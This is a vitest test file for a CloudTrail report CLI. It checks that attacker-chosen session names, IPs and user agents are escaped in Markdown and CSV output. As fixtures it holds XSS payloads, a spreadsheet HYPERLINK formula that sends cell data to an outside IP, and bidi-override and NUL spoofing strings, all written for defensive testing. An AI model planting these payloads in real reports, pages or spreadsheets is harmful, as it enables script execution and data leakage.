// A trail an attacker wrote: they choose the session name, the user agent and (through some services) the
// text of the source IP. The Markdown and CSV reports must carry that text as text: no HTML or links that
// a renderer would act on, no formulas a spreadsheet would run, no NUL or bidi override that hides what
// it says. Through the CLI in-process, as an analyst runs it.
import {mkdtempSync, readFileSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {describe, expect, it} from 'vitest'

import {runCli} from '../support/cli.js'

const ACCOUNT = '111122223333'
const SESSION = '"><svg onload=alert(1)>'
const SCRIPT_IP = '<script>alert(2)</script>'
const BIDI_AGENT = 'aws-cli/2.0 \u202Eexe.lmth\u0000[x](javascript:alert(3))'
const FORMULA_SESSION = '=HYPERLINK("http://203.0.113.66/?"&A1,"click")'
const HIDDEN_SESSION = 'ci\u202Egnp.exe\u0000'

const user = {type: 'IAMUser', principalId: 'AIDAEXAMPLE', arn: `arn:aws:iam::${ACCOUNT}:user/mallory`, accountId: ACCOUNT, accessKeyId: 'AKIAMALLORY', userName: 'mallory'}

function assume(id: string, key: string, sessionName: string, time: string) {
  return {
    eventVersion: '1.08', eventID: id, eventTime: time, eventName: 'AssumeRole', eventSource: 'sts.amazonaws.com', awsRegion: 'us-east-1',
    sourceIPAddress: SCRIPT_IP, userAgent: BIDI_AGENT, recipientAccountId: ACCOUNT, userIdentity: user,
    requestParameters: {roleArn: `arn:aws:iam::${ACCOUNT}:role/app`, roleSessionName: sessionName},
    responseElements: {
      credentials: {accessKeyId: key, expiration: 'Jul 30, 2024, 10:31:15 PM'},
      assumedRoleUser: {arn: `arn:aws:sts::${ACCOUNT}:assumed-role/app/${sessionName}`, assumedRoleId: `AROAEXAMPLE:${sessionName}`},
    },
  }
}

function use(id: string, key: string, sessionName: string, time: string) {
  return {
    eventVersion: '1.08', eventID: id, eventTime: time, eventName: 'ListBuckets', eventSource: 's3.amazonaws.com', awsRegion: 'us-east-1',
    sourceIPAddress: SCRIPT_IP, userAgent: BIDI_AGENT, recipientAccountId: ACCOUNT,
    userIdentity: {
      type: 'AssumedRole', principalId: `AROAEXAMPLE:${sessionName}`, arn: `arn:aws:sts::${ACCOUNT}:assumed-role/app/${sessionName}`, accountId: ACCOUNT, accessKeyId: key,
      sessionContext: {attributes: {creationDate: '2024-07-30T21:31:15Z', mfaAuthenticated: 'false'}, sessionIssuer: {type: 'Role', arn: `arn:aws:iam::${ACCOUNT}:role/app`, accountId: ACCOUNT, userName: 'app'}},
    },
  }
}

const dir = mkdtempSync(join(tmpdir(), 'lockdown-escaping-'))
const trail = join(dir, 'trail.json')
writeFileSync(trail, JSON.stringify({Records: [
  assume('a1', 'ASIAONE', SESSION, '2024-07-30T21:31:15Z'),
  use('u1', 'ASIAONE', SESSION, '2024-07-30T21:35:00Z'),
  assume('a2', 'ASIATWO', FORMULA_SESSION, '2024-07-30T21:31:15Z'),
  use('u2', 'ASIATWO', FORMULA_SESSION, '2024-07-30T21:36:00Z'),
  assume('a3', 'ASIATHREE', HIDDEN_SESSION, '2024-07-30T21:31:15Z'),
]}))
const WINDOW = ['--since', '2024-07-30T00:00Z', '--until', '2024-07-31T00:00Z']

/** RFC 4180 cells, quoted fields with doubled quotes and embedded newlines included. */
function csvCells(text: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++
      else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ',') rows[rows.length - 1].push(cell), (cell = '')
    else if (c === '\r' && text[i + 1] === '\n') rows[rows.length - 1].push(cell), (cell = ''), rows.push([]), i++
    else cell += c
  }
  return rows.filter((r) => r.length > 1)
}

describe('reports carry attacker-chosen text as text', () => {
  it('Markdown: no raw HTML, no links, no NUL or bidi override; the text is still there to read', async () => {
    const out = join(dir, 'report.md')
    const r = await runCli(['trail', 'report', '--path', trail, ...WINDOW, '--out', out])
    expect(r.code, r.stderr).toBe(0)
    const md = readFileSync(out, 'utf8')
    // The session name and IP are in the report (the analyst needs them), as entities.
    expect(md).toContain('"&gt;&lt;svg onload=alert(1)&gt;')
    expect(md).toContain('&lt;script&gt;alert(2)&lt;/script&gt;')
    expect(md).not.toMatch(/<svg|<script/i)
    // A [text](url) link would be live in any Markdown viewer; its brackets are escaped.
    expect(md).not.toMatch(/(?<!\\)\[x(?<!\\)\]\(javascript:/)
    expect(md).toContain('\\[x\\](javascript:alert(3))')
    // U+202E would show the agent reversed, NUL cuts text in many tools: both shown as code points.
    expect(md).not.toMatch(/[\u0000\u202e]/)
    expect(md).toContain('‹U+202E›exe.lmth‹U+0000›')
    // The Mermaid block still closes where it should and has no raw markup in its labels.
    const block = md.slice(md.indexOf('```mermaid'), md.indexOf('```', md.indexOf('```mermaid') + 3))
    expect(block).toContain('#quot;#gt;#lt;svg onload=alert(1)#gt;')
  })

  it('CSV: no cell starts a formula; NUL and U+202E are shown; each session is one row', async () => {
    const out = join(dir, 'sessions.csv')
    const r = await runCli(['trail', 'report', '--path', trail, ...WINDOW, '--out', out])
    expect(r.code, r.stderr).toBe(0)
    const rows = csvCells(readFileSync(out, 'utf8'))
    expect(rows).toHaveLength(4)
    const cells = rows.flat()
    for (const c of cells) expect(c, c).not.toMatch(/^[=+\-@\t\r]/)
    const formula = rows.find((row) => row.some((c) => c.includes('HYPERLINK')))!
    const name = formula[rows[0].indexOf('session_name')]
    expect(name).toBe(`'${FORMULA_SESSION}`)
    expect(cells.join('')).not.toMatch(/[\u0000\u202e]/)
    expect(rows.find((row) => row.includes('ASIATHREE'))![rows[0].indexOf('session_name')]).toBe('ci‹U+202E›gnp.exe‹U+0000›')
    expect(rows.find((row) => row.includes('ASIAONE'))![rows[0].indexOf('source_ip')]).toBe(SCRIPT_IP)
  })
})
